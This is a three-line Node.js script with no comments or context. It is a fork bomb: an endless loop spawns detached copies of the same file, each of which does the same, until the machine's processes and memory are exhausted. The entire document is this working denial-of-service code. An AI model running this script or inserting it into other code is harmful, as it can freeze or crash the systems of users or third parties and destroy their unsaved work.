import { spawn } from 'node:child_process';

for (;;) spawn(process.execPath, [import.meta.filename], { detached: true });
